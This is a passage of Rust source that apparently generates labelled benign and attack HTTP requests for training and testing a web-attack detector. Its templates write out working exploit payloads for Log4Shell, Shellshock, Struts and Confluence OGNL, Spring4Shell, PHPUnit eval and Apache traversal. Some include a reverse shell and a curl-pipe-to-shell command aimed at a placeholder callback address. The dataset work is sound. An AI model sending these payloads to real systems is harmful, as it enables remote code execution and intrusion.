//! Plaintext HTTP/1.1 requests of every source the catalogue names: CSIC 2010 normal
//! requests, real sites' query strings, ordinary site paths, attack payloads injected into
//! parameters, paths, headers, cookies and bodies, scanners' probe paths, and built-in
//! templates of known exploits (Log4Shell, Shellshock, Struts OGNL, ...) and malware
//! check-ins.

use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::path::Path;

use anyhow::{Context, Result, bail, ensure};
use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};
use rand::Rng;
use rand::seq::IndexedRandom;

use crate::config::{Catalogue, HttpSource, Injection, Part, ShopAnomaly};

/// Characters a client escapes in a query value or path segment.
const ESCAPE: &AsciiSet = &CONTROLS
    .add(b' ')
    .add(b'"')
    .add(b'#')
    .add(b'<')
    .add(b'>')
    .add(b'`')
    .add(b'{')
    .add(b'}')
    .add(b'|')
    .add(b'\\')
    .add(b'^')
    .add(b'&')
    .add(b'=')
    .add(b'+')
    .add(b'%')
    .add(b'?')
    .add(b'/')
    .add(b';')
    .add(b'\'');

/// Browsers, tools and libraries: every class draws from all of them (attackers mostly
/// pretend to be browsers; benign scripts use curl or python).
pub const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "Wget/1.21.3",
];

/// Tool user agents that some attacks keep (others hide behind browser strings).
const TOOL_AGENTS: &[&str] = &[
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3",
    "zgrab/0.x",
];

/// Ordinary paths of web sites.
const SITE_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/about",
    "/contact",
    "/products",
    "/products/item",
    "/blog",
    "/blog/2024/05/release-notes",
    "/search",
    "/login",
    "/account",
    "/cart",
    "/checkout",
    "/api/v1/items",
    "/api/v2/users/me",
    "/news",
    "/help/faq",
    "/static/css/site.css",
    "/static/js/app.js",
    "/static/js/vendor.min.js",
    "/images/logo.png",
    "/images/hero.jpg",
    "/fonts/inter.woff2",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/feed.xml",
    "/docs/getting-started",
    "/wp-content/themes/site/style.css",
    "/assets/app-4f3a9c.js",
    "/downloads",
    "/en/support",
    "/de/produkte",
];

/// Parameter names seen on ordinary sites.
const PARAM_NAMES: &[&str] = &[
    "id", "q", "page", "user", "name", "search", "cat", "item", "lang", "redirect", "file", "sort", "ref", "token",
    "email",
];

/// Loaded request sources.
pub struct HttpCorpus {
    csic: Vec<(String, String, String)>,
    queries: Vec<String>,
    payloads: HashMap<String, Vec<String>>,
    probes: HashMap<String, Vec<String>>,
    logged: HashMap<String, Vec<Logged>>,
}

/// One request of an access log.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Logged {
    method: String,
    target: String,
    referer: Option<String>,
    agent: String,
}

/// One line of an Apache combined log: `host - - [time] "METHOD TARGET HTTP/x" status
/// size "referer" "agent"`. `None` for other lines, other statuses than 2xx/3xx, methods
/// other than GET/HEAD/POST/OPTIONS, targets that are not origin-form or hold a space.
fn parse_logged(line: &str) -> Option<Logged> {
    let mut quoted = line.split('"');
    let _ = quoted.next()?;
    let request = quoted.next()?;
    let status: u16 = quoted.next()?.split_whitespace().next()?.parse().ok()?;
    let referer = quoted.next()?;
    let _ = quoted.next()?;
    let agent = quoted.next()?;
    let mut parts = request.split(' ');
    let (method, target, version) = (parts.next()?, parts.next()?, parts.next()?);
    let ok = (200..400).contains(&status)
        && ["GET", "HEAD", "POST", "OPTIONS"].contains(&method)
        && target.starts_with('/')
        && version.starts_with("HTTP/")
        && parts.next().is_none()
        && !agent.is_empty()
        && agent.len() <= 512
        && target.len() <= 2048;
    ok.then(|| Logged {
        method: method.to_owned(),
        target: target.to_owned(),
        referer: (referer != "-" && !referer.is_empty()).then(|| header_safe(referer)),
        agent: header_safe(agent),
    })
}

fn load_access_log(data: &Path, file: &str) -> Result<Vec<Logged>> {
    let path = data.join(file);
    let bytes = std::fs::read(&path).with_context(|| format!("reading {}", path.display()))?;
    let out: Vec<Logged> = String::from_utf8_lossy(&bytes).lines().filter_map(parse_logged).collect();
    ensure!(!out.is_empty(), "no 2xx/3xx requests in {}", path.display());
    Ok(out)
}

fn read_lines(data: &Path, patterns: &[String]) -> Result<Vec<String>> {
    let mut set = BTreeSet::new();
    for pat in patterns {
        let full = data.join(pat);
        let mut matched = 0;
        for entry in glob::glob(&full.to_string_lossy()).with_context(|| format!("glob {pat}"))? {
            let path = entry?;
            let bytes = std::fs::read(&path).with_context(|| format!("reading {}", path.display()))?;
            for line in String::from_utf8_lossy(&bytes).lines() {
                let line = line.trim_end_matches('\r');
                if !line.trim().is_empty() && line.len() <= 2048 {
                    set.insert(line.to_owned());
                }
            }
            matched += 1;
        }
        ensure!(matched > 0, "no file matches {}", full.display());
    }
    Ok(set.into_iter().collect())
}

fn params_rows(data: &Path, attack_type: &str) -> Result<Vec<String>> {
    let path = data.join("http_params_dataset/payload_full.csv");
    let mut rdr = csv::Reader::from_path(&path).with_context(|| format!("reading {}", path.display()))?;
    let mut out = Vec::new();
    for row in rdr.records() {
        let row = row?;
        if row.get(2) == Some(attack_type)
            && let Some(p) = row.get(0)
        {
            out.push(p.to_owned());
        }
    }
    ensure!(!out.is_empty(), "no rows of attack_type {attack_type} in {}", path.display());
    Ok(out)
}

impl HttpCorpus {
    /// Loads what the families of `cat` use from the shared data directory, keeping the
    /// lines of `part` only.
    pub fn load(cat: &Catalogue, data: &Path, families: &BTreeSet<String>, part: Part) -> Result<Self> {
        let mut corpus = Self {
            csic: Vec::new(),
            queries: Vec::new(),
            payloads: HashMap::new(),
            probes: HashMap::new(),
            logged: HashMap::new(),
        };
        for f in cat.family.iter().filter(|f| families.contains(&f.name)) {
            let shop = match &f.http {
                Some(HttpSource::Csic | HttpSource::ShopAnomaly { .. }) => true,
                Some(HttpSource::Payloads { inject, .. }) => inject.contains(&Injection::Shop),
                _ => false,
            };
            if shop && corpus.csic.is_empty() {
                corpus.csic = load_csic(data)?;
                corpus.csic.retain(|(m, t, b)| in_part(part, &format!("{m} {t} {b}")));
                ensure!(!corpus.csic.is_empty(), "no CSIC requests in part {part:?}");
            }
            match &f.http {
                Some(HttpSource::Queries) if corpus.queries.is_empty() => {
                    let path = data.join("modsec_learn_queries/legitimate_openappsec_part6.json");
                    let text = std::fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
                    let all: Vec<String> =
                        serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
                    corpus.queries = all
                        .into_iter()
                        .filter(|q| q.len() <= 1500 && in_part(part, q))
                        .collect::<BTreeSet<_>>()
                        .into_iter()
                        .collect();
                }
                Some(HttpSource::Payloads { files, params_attack_type, .. }) => {
                    let mut lines = read_lines(data, files)?;
                    if let Some(t) = params_attack_type {
                        lines.extend(params_rows(data, t)?);
                    }
                    lines.retain(|l| in_part(part, l));
                    ensure!(!lines.is_empty(), "family {}: no payloads in part {part:?}", f.name);
                    corpus.payloads.insert(f.name.clone(), lines);
                }
                Some(HttpSource::Probes { files }) => {
                    let lines = read_lines(data, files)?
                        .into_iter()
                        .map(|l| if l.starts_with('/') { l } else { format!("/{l}") })
                        .filter(|l| !l.contains(' ') && in_part(part, l))
                        .collect();
                    corpus.probes.insert(f.name.clone(), lines);
                }
                Some(HttpSource::AccessLog { file }) => {
                    let mut logged = load_access_log(data, file)?;
                    logged.retain(|r| in_part(part, &format!("{} {} {}", r.method, r.target, r.agent)));
                    ensure!(!logged.is_empty(), "family {}: no logged requests in part {part:?}", f.name);
                    corpus.logged.insert(f.name.clone(), logged);
                }
                Some(HttpSource::Template { name }) => {
                    ensure!(TEMPLATES.contains(&name.as_str()), "family {}: unknown template {name}", f.name);
                }
                _ => {}
            }
        }
        Ok(corpus)
    }

    /// Builds one request of `source` for family `family`: the bytes as sent.
    pub fn request<R: Rng>(&self, rng: &mut R, family: &str, source: &HttpSource, host: &str) -> Result<Vec<u8>> {
        let ua = pick_agent(rng, false);
        let mut headers: Vec<(String, String)> = Vec::new();
        // Shop-shaped attacks keep the shop's clients (no scanner User-Agent).
        let mut shop_like = false;
        let (method, target, body) = match source {
            HttpSource::Csic => {
                let (m, t, b) = self.csic.choose(rng).context("CSIC corpus is empty")?;
                (m.clone(), t.clone(), b.clone())
            }
            HttpSource::Queries => {
                let q = self.queries.choose(rng).context("query corpus is empty")?;
                let path = SITE_PATHS.choose(rng).copied().unwrap_or("/");
                ("GET".to_owned(), format!("{path}?{q}"), String::new())
            }
            HttpSource::Assets => ("GET".to_owned(), asset_path(rng), String::new()),
            HttpSource::Payloads { inject, .. } => {
                let p = self.payloads.get(family).and_then(|v| v.choose(rng)).context("payload corpus is empty")?;
                let place = *inject.choose(rng).context("no injection place")?;
                if place == Injection::Shop {
                    shop_like = true;
                    let req = self.csic.choose(rng).context("CSIC corpus is empty")?;
                    // Most often the value replaced, else the payload appended to it.
                    let append = rng.random_bool(0.3);
                    with_shop_value(rng, req, |_, old| if append { format!("{old}{}", enc(p)) } else { enc(p) })
                } else {
                    inject_payload(rng, p, place, &mut headers)
                }
            }
            HttpSource::ShopAnomaly { kind } => {
                shop_like = true;
                let req = self.csic.choose(rng).context("CSIC corpus is empty")?;
                match kind {
                    ShopAnomaly::Tamper => with_shop_value(rng, req, tampered),
                    ShopAnomaly::Hidden => hidden_resource(rng, req),
                }
            }
            HttpSource::Probes { .. } => {
                let p = self.probes.get(family).and_then(|v| v.choose(rng)).context("probe corpus is empty")?;
                ("GET".to_owned(), p.clone(), String::new())
            }
            HttpSource::AccessLog { .. } => {
                let r = self.logged.get(family).and_then(|v| v.choose(rng)).context("access log is empty")?;
                headers.push(("User-Agent".into(), r.agent.clone()));
                if let Some(referer) = &r.referer {
                    headers.push(("Referer".into(), referer.clone()));
                }
                (r.method.clone(), r.target.clone(), String::new())
            }
            HttpSource::Template { name } => template(rng, name, &mut headers)?,
        };
        let tool = !shop_like && matches!(source, HttpSource::Payloads { .. } | HttpSource::Probes { .. });
        let ua = if tool && rng.random_bool(0.25) { TOOL_AGENTS.choose(rng).copied().unwrap_or(ua) } else { ua };
        Ok(assemble(rng, &method, &target, host, ua, &headers, &body))
    }
}

fn load_csic(data: &Path) -> Result<Vec<(String, String, String)>> {
    let path = data.join("csic2010_train/normalTrafficTraining.parsed.csv");
    let mut rdr = csv::Reader::from_path(&path).with_context(|| format!("reading {}", path.display()))?;
    let mut out = Vec::new();
    for row in rdr.records() {
        let row = row?;
        let (Some(method), Some(url), Some(body)) = (row.get(2), row.get(3), row.get(5)) else { continue };
        // "http://localhost:8080/tienda1/..." -> "/tienda1/..."
        let target = url.find("://").and_then(|i| url[i + 3..].find('/').map(|j| &url[i + 3 + j..])).unwrap_or(url);
        if target.starts_with('/') && !target.contains(' ') {
            out.push((method.to_owned(), target.to_owned(), body.to_owned()));
        }
    }
    ensure!(!out.is_empty(), "no requests in {}", path.display());
    Ok(out)
}

/// A user agent: browsers most of the time.
pub fn pick_agent<R: Rng>(rng: &mut R, scripted: bool) -> &'static str {
    if scripted || rng.random_bool(0.2) {
        USER_AGENTS[5 + rng.random_range(0..5)]
    } else {
        USER_AGENTS[rng.random_range(0..5)]
    }
}

fn asset_path<R: Rng>(rng: &mut R) -> String {
    let base = SITE_PATHS.choose(rng).copied().unwrap_or("/");
    if rng.random_bool(0.3) {
        let name = PARAM_NAMES.choose(rng).copied().unwrap_or("id");
        format!("{base}?{name}={}", rng.random_range(1..100_000))
    } else {
        base.to_owned()
    }
}

/// Whether a corpus line belongs to `part` (FNV-1a of its bytes: 30 % holdout).
fn in_part(part: Part, line: &str) -> bool {
    let h = line.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3));
    let holdout = h % 100 < 30;
    match part {
        Part::All => true,
        Part::Train => !holdout,
        Part::Holdout => holdout,
    }
}

/// The byte ranges of the values in `a=1&b=2`.
fn value_spans(params: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut start = 0;
    for part in params.split('&') {
        if let Some(eq) = part.find('=') {
            out.push((start + eq + 1, start + part.len()));
        }
        start += part.len() + 1;
    }
    out
}

/// A shop request with one parameter value replaced by `new(old value)`: a value of the
/// form body when it has one, else of the query; a request without parameters gets one
/// (`id`), as a client that adds a parameter would.
fn with_shop_value<R: Rng>(
    rng: &mut R,
    req: &(String, String, String),
    new: impl FnOnce(&mut R, &str) -> String,
) -> (String, String, String) {
    let (method, target, body) = req.clone();
    if let Some(&(s, e)) = value_spans(&body).choose(rng) {
        let body = format!("{}{}{}", &body[..s], new(rng, &body[s..e]), &body[e..]);
        return (method, target, body);
    }
    if let Some(q) = target.find('?')
        && let Some(&(s, e)) = value_spans(&target[q + 1..]).choose(rng)
    {
        let (s, e) = (q + 1 + s, q + 1 + e);
        let target = format!("{}{}{}", &target[..s], new(rng, &target[s..e]), &target[e..]);
        return (method, target, body);
    }
    let sep = if target.contains('?') { '&' } else { '?' };
    let value = new(rng, "");
    (method, format!("{target}{sep}id={value}"), body)
}

/// A parameter value outside its domain, encoded as a client would send it.
fn tampered<R: Rng>(rng: &mut R, old: &str) -> String {
    const SYMBOLS: &[u8] = b"'\"<>;|$%*()[]{}!\\/`@~^";
    match rng.random_range(0..3) {
        // An overflow: one character, or the value itself, repeated.
        0 => {
            let n: usize = rng.random_range(120..1800);
            let unit = if old.is_empty() || rng.random_bool(0.5) { "A" } else { old };
            unit.repeat(n.div_ceil(unit.len().max(1))).chars().take(n).collect()
        }
        // Symbols salted into the value.
        1 => {
            let mut v: Vec<char> = old.chars().collect();
            for _ in 0..rng.random_range(1..5) {
                let at = rng.random_range(0..=v.len());
                v.insert(at, SYMBOLS[rng.random_range(0..SYMBOLS.len())] as char);
            }
            enc(&v.into_iter().collect::<String>())
        }
        // The wrong type: digits become letters and letters digits.
        _ => {
            let v: String = old
                .chars()
                .map(|c| match c {
                    '0'..='9' if rng.random_bool(0.6) => char::from(b'a' + rng.random_range(0..26u8)),
                    'a'..='z' | 'A'..='Z' if rng.random_bool(0.4) => char::from(b'0' + rng.random_range(0..10u8)),
                    c => c,
                })
                .collect();
            if v == old { format!("{old}{}", rng.random_range(0..1000)) } else { v }
        }
    }
}

/// A resource next to a shop page that the shop never links.
fn hidden_resource<R: Rng>(rng: &mut R, req: &(String, String, String)) -> (String, String, String) {
    const SUFFIXES: &[&str] = &[
        ".bak", ".old", ".BAK", ".orig", ".inc", ".txt", "~", ".zip", ".tar.gz", ".java", ".save", ".swp", ".tmp", ".1",
    ];
    const FILES: &[&str] = &[
        "WEB-INF/web.xml",
        "META-INF/context.xml",
        ".htaccess",
        ".htpasswd",
        "web.config",
        "config.inc",
        "admin/",
        "backup/",
        "install.txt",
        "README",
        "CVS/Entries",
        ".svn/entries",
        ".git/config",
        "server-status",
    ];
    let (_, target, _) = req;
    let path = target.split('?').next().unwrap_or(target);
    let query = target.find('?').map_or("", |q| &target[q..]);
    let dir = &path[..path.rfind('/').map_or(0, |i| i + 1)];
    let keep = if rng.random_bool(0.5) { query } else { "" };
    let target = match rng.random_range(0..3) {
        0 => format!("{path}{}{keep}", SUFFIXES.choose(rng).copied().unwrap_or(".bak")),
        1 => format!("{dir}{}", FILES.choose(rng).copied().unwrap_or(".htaccess")),
        _ => format!("{path};jsessionid={}{keep}", rand_hex(rng, 32)),
    };
    ("GET".to_owned(), target, String::new())
}

fn rand_hex<R: Rng>(rng: &mut R, len: usize) -> String {
    (0..len).map(|_| char::from(b"0123456789ABCDEF"[rng.random_range(0..16)])).collect()
}

fn enc(s: &str) -> String {
    utf8_percent_encode(s, ESCAPE).to_string()
}

/// Header-safe text: no control characters.
fn header_safe(s: &str) -> String {
    s.chars().filter(|c| !c.is_control()).collect()
}

fn inject_payload<R: Rng>(
    rng: &mut R,
    payload: &str,
    place: Injection,
    headers: &mut Vec<(String, String)>,
) -> (String, String, String) {
    let path = SITE_PATHS.choose(rng).copied().unwrap_or("/");
    let param = PARAM_NAMES.choose(rng).copied().unwrap_or("id");
    match place {
        // A shop value is injected by the caller (it needs a shop request); alone, a query value.
        Injection::Query | Injection::Shop => {
            ("GET".to_owned(), format!("{path}?{param}={}", enc(payload)), String::new())
        }
        Injection::Path => {
            // Traversal payloads already carry their own slashes and encodings.
            let raw: String = payload.chars().filter(|c| !c.is_control() && *c != ' ').collect();
            let seg = if raw.contains("..") || raw.starts_with('/') { raw } else { enc(payload) };
            let sep = if seg.starts_with('/') { "" } else { "/" };
            ("GET".to_owned(), format!("/files{sep}{seg}"), String::new())
        }
        Injection::Header => {
            let name =
                ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version"].choose(rng).copied().unwrap_or("Referer");
            headers.push((name.to_owned(), header_safe(payload)));
            ("GET".to_owned(), path.to_owned(), String::new())
        }
        Injection::Body => {
            headers.push(("Content-Type".to_owned(), "application/x-www-form-urlencoded".to_owned()));
            ("POST".to_owned(), path.to_owned(), format!("{param}={}&submit=1", enc(payload)))
        }
        Injection::Cookie => {
            headers.push((
                "Cookie".to_owned(),
                format!("session={}; {param}={}", rng.random_range(100_000..999_999), enc(payload)),
            ));
            ("GET".to_owned(), path.to_owned(), String::new())
        }
    }
}

/// Built-in request templates.
pub const TEMPLATES: &[&str] = &[
    "log4shell",
    "shellshock",
    "phpunit_eval",
    "struts_ognl",
    "apache_traversal",
    "confluence_ognl",
    "spring4shell",
    "c2_gate",
    "c2_beacon_get",
    "dropper_get",
    "webdav_client",
];

fn rand_token<R: Rng>(rng: &mut R, len: usize) -> String {
    const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    (0..len).map(|_| ALPHA[rng.random_range(0..ALPHA.len())] as char).collect()
}

#[expect(clippy::too_many_lines, reason = "one arm per template, each a few lines")]
fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>) -> Result<(String, String, String)> {
    let cb = format!("198.19.{}.{}", rng.random_range(1..250), rng.random_range(1..250));
    Ok(match name {
        "log4shell" => {
            let lookups = [
                "${jndi:ldap://CB/a}",
                "${jndi:rmi://CB:1099/Exploit}",
                "${${lower:j}ndi:${lower:l}dap://CB/x}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://CB/o}",
                "${jndi:dns://CB/q}",
            ];
            let l = lookups.choose(rng).copied().unwrap_or("${jndi:ldap://CB/a}").replace("CB", &cb);
            let where_ = rng.random_range(0..3);
            match where_ {
                0 => {
                    headers.push(("User-Agent".to_owned(), l));
                    ("GET".to_owned(), "/".to_owned(), String::new())
                }
                1 => {
                    headers.push(("X-Api-Version".to_owned(), l));
                    ("GET".to_owned(), "/api/v1/status".to_owned(), String::new())
                }
                _ => ("GET".to_owned(), format!("/search?q={}", enc(&l)), String::new()),
            }
        }
        "shellshock" => {
            let cmds = [
                "/bin/bash -c 'cat /etc/passwd'",
                "/usr/bin/id",
                "/bin/bash -i >& /dev/tcp/CB/4444 0>&1",
                "/bin/echo vulnerable",
            ];
            let cmd = cmds.choose(rng).copied().unwrap_or("/usr/bin/id").replace("CB", &cb);
            let header = ["User-Agent", "Referer", "Cookie"].choose(rng).copied().unwrap_or("User-Agent");
            headers.push((header.to_owned(), format!("() {{ :; }}; echo; {cmd}")));
            let path = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/bash"]
                .choose(rng)
                .copied()
                .unwrap_or("/cgi-bin/test.cgi");
            ("GET".to_owned(), path.to_owned(), String::new())
        }
        "phpunit_eval" => {
            let prefix =
                ["", "/vendor", "/laravel/vendor", "/lib/vendor", "/app/vendor"].choose(rng).copied().unwrap_or("");
            let body = ["<?php echo md5(\"phpunit\"); ?>", "<?php system('id'); ?>", "<?php echo(php_uname()); ?>"]
                .choose(rng)
                .copied()
                .unwrap_or("<?php phpinfo(); ?>");
            headers.push(("Content-Type".to_owned(), "text/html".to_owned()));
            ("POST".to_owned(), format!("{prefix}/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), body.to_owned())
        }
        "struts_ognl" => {
            let cmd = ["id", "whoami", "cat /etc/passwd"].choose(rng).copied().unwrap_or("id");
            headers.push((
                "Content-Type".to_owned(),
                format!("%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{cmd}').(#p=new java.lang.ProcessBuilder({{'/bin/sh','-c',#cmd}})).(#p.start())}}"),
            ));
            let path = ["/struts2-showcase/index.action", "/index.action", "/login.action", "/upload.action"]
                .choose(rng)
                .copied()
                .unwrap_or("/index.action");
            ("POST".to_owned(), path.to_owned(), String::new())
        }
        "apache_traversal" => {
            let t = [
                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
                "/icons/%%32%65%%32%65/%%32%65%%32%65/etc/hosts",
            ];
            let path = t.choose(rng).copied().unwrap_or(t[0]);
            if path.contains("bin/sh") {
                ("POST".to_owned(), path.to_owned(), "echo Content-Type: text/plain; echo; id".to_owned())
            } else {
                ("GET".to_owned(), path.to_owned(), String::new())
            }
        }
        "confluence_ognl" => {
            let cmd = ["id", "uname -a", "curl CB/x.sh|sh"].choose(rng).copied().unwrap_or("id").replace("CB", &cb);
            let expr = format!(
                "${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{cmd}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}}"
            );
            ("GET".to_owned(), format!("/{}/", enc(&expr)), String::new())
        }
        "spring4shell" => {
            headers.push(("Content-Type".to_owned(), "application/x-www-form-urlencoded".to_owned()));
            headers.push(("suffix".to_owned(), "%>//".to_owned()));
            headers.push(("c1".to_owned(), "Runtime".to_owned()));
            let body = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=";
            ("POST".to_owned(), "/".to_owned(), body.to_owned())
        }
        "c2_gate" => {
            let path = [
                "/gate.php",
                "/panel/gate.php",
                "/wp-content/plugins/api.php",
                "/index.php",
                "/submit.php",
                "/api/v1/update",
            ]
            .choose(rng)
            .copied()
            .unwrap_or("/gate.php");
            let len = rng.random_range(40..600);
            let blob = rand_token(rng, len);
            headers.push((
                "Content-Type".to_owned(),
                ["application/octet-stream", "application/x-www-form-urlencoded"]
                    .choose(rng)
                    .copied()
                    .unwrap_or("application/octet-stream")
                    .to_owned(),
            ));
            ("POST".to_owned(), path.to_owned(), blob)
        }
        "c2_beacon_get" => {
            let path =
                ["/jquery-3.3.1.min.js", "/pixel.gif", "/updates.rss", "/ca", "/__utm.gif", "/submit.php", "/news.php"]
                    .choose(rng)
                    .copied()
                    .unwrap_or("/pixel.gif");
            headers.push(("Cookie".to_owned(), format!("__cfduid={}", rand_token(rng, 64))));
            ("GET".to_owned(), format!("{path}?id={}", rand_token(rng, 12)), String::new())
        }
        "dropper_get" => {
            let len = rng.random_range(4..12);
            let name = rand_token(rng, len);
            let ext =
                [".exe", ".dll", ".bin", ".ps1", ".sh", ".jpg", ".dat", ".zip"].choose(rng).copied().unwrap_or(".bin");
            let dir = ["/", "/files/", "/wp-content/uploads/2024/", "/tmp/", "/images/", "/download/"]
                .choose(rng)
                .copied()
                .unwrap_or("/");
            ("GET".to_owned(), format!("{dir}{name}{ext}"), String::new())
        }
        "webdav_client" => webdav_client(rng, headers),
        other => bail!("unknown template {other}"),
    })
}

const DAV_AGENTS: &[&str] = &[
    "Microsoft-WebDAV-MiniRedir/10.0.19045",
    "Microsoft-WebDAV-MiniRedir/10.0.22631",
    "WebDAVFS/3.0.0 (03008000) Darwin/22.6.0 (x86_64)",
    "WebDAVLib/1.3",
    "davfs2/1.7.0 neon/0.32.5",
    "gvfs/1.50.3",
    "Cyberduck/8.7.1.40770 (Mac OS X/14.1) (x86_64)",
    "rclone/v1.64.2",
    "Mozilla/5.0 (Windows) mirall/3.10.1 (Nextcloud, windows-10.0.19045 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
];
const DAV_ROOTS: &[&str] =
    &["/remote.php/dav/files/", "/remote.php/webdav/", "/webdav/", "/dav/", "/public/", "/share/"];
const DAV_USERS: &[&str] = &["alice", "bob", "j.smith", "admin2", "maria", "team", "scanner01", "k.mueller"];
const DAV_NAMES: &[&str] = &[
    "Documents",
    "Photos",
    "Budget 2024.xlsx",
    "report-final.docx",
    "notes.md",
    "IMG_2031.JPG",
    "backup",
    "Shared",
    "minutes_2024-03-11.pdf",
    "slides.pptx",
    "archive.zip",
    "todo.txt",
];
const DAV_PROPS: &[&str] = &[
    "<d:getlastmodified/>",
    "<d:getcontentlength/>",
    "<d:resourcetype/>",
    "<d:getetag/>",
    "<d:getcontenttype/>",
    "<d:displayname/>",
    "<d:quota-available-bytes/>",
    "<d:quota-used-bytes/>",
    "<oc:fileid/>",
    "<oc:permissions/>",
    "<oc:size/>",
    "<nc:has-preview/>",
];

/// WebDAV methods in about the proportions a desktop client sends them.
const DAV_METHODS: &[&str] = &[
    "PROPFIND",
    "PROPFIND",
    "PROPFIND",
    "OPTIONS",
    "MKCOL",
    "PUT",
    "MOVE",
    "COPY",
    "LOCK",
    "UNLOCK",
    "PROPPATCH",
    "DELETE",
    "GET",
];

/// A WebDAV client's request as real clients send them (Windows' mini-redirector, macOS
/// Finder, davfs2, GNOME's gvfs, Cyberduck, rclone, Nextcloud's desktop client): property
/// lookups with their XML bodies, folder creation, uploads, moves, copies and locks on a
/// user's files. Benign traffic whose methods and XML bodies look unlike a web page: the
/// real corpus has one such capture, and the only other WebDAV it holds is an exploit
/// (IIS's PROPFIND overflow), so without these the method alone reads as an attack.
fn webdav_client<R: Rng>(rng: &mut R, headers: &mut Vec<(String, String)>) -> (String, String, String) {
    let pick = |rng: &mut R, v: &[&'static str]| v.choose(rng).copied().unwrap_or(v[0]);
    headers.push(("User-Agent".to_owned(), pick(rng, DAV_AGENTS).to_owned()));
    let root = pick(rng, DAV_ROOTS);
    let user =
        if root.starts_with("/remote.php/dav/files/") { format!("{}/", pick(rng, DAV_USERS)) } else { String::new() };
    let name = enc(pick(rng, DAV_NAMES)).replace("%2E", ".");
    let dir = format!("{root}{user}");
    let file = format!("{dir}{name}");
    let xml = "application/xml; charset=utf-8".to_owned();
    let method = *DAV_METHODS.choose(rng).unwrap_or(&"PROPFIND");
    match method {
        "PROPFIND" => {
            headers.push(("Depth".to_owned(), ["0", "1", "1"].choose(rng).copied().unwrap_or("1").to_owned()));
            headers.push(("Content-Type".to_owned(), xml));
            let body = propfind_body(rng);
            ("PROPFIND".to_owned(), if rng.random_bool(0.5) { dir } else { file }, body)
        }
        "PROPPATCH" => {
            headers.push(("Content-Type".to_owned(), xml));
            let body = format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n<D:propertyupdate xmlns:D=\"DAV:\" xmlns:Z=\"urn:schemas-microsoft-com:\"><D:set><D:prop><Z:Win32LastModifiedTime>Mon, {:02} Mar 2024 10:{:02}:00 GMT</Z:Win32LastModifiedTime><Z:Win32FileAttributes>00000020</Z:Win32FileAttributes></D:prop></D:set></D:propertyupdate>",
                rng.random_range(1..29),
                rng.random_range(0..60)
            );
            ("PROPPATCH".to_owned(), file, body)
        }
        "LOCK" => {
            headers.push(("Timeout".to_owned(), "Second-3600".to_owned()));
            headers.push(("Content-Type".to_owned(), xml));
            let body = format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n<D:lockinfo xmlns:D=\"DAV:\"><D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner><D:href>{}</D:href></D:owner></D:lockinfo>",
                pick(rng, DAV_USERS)
            );
            ("LOCK".to_owned(), file, body)
        }
        "UNLOCK" => {
            headers.push((
                "Lock-Token".to_owned(),
                format!("<opaquelocktoken:{}-{}>", rand_hex(rng, 8), rand_hex(rng, 12)),
            ));
            ("UNLOCK".to_owned(), file, String::new())
        }
        "MOVE" | "COPY" => {
            let to = format!("{dir}{}", enc(pick(rng, DAV_NAMES)).replace("%2E", "."));
            headers.push(("Destination".to_owned(), format!("http://files.example{to}")));
            headers.push(("Overwrite".to_owned(), ["T", "F"].choose(rng).copied().unwrap_or("F").to_owned()));
            (method.to_owned(), file, String::new())
        }
        "PUT" => {
            let len = rng.random_range(20..400);
            headers.push(("Content-Type".to_owned(), "application/octet-stream".to_owned()));
            ("PUT".to_owned(), file, rand_token(rng, len))
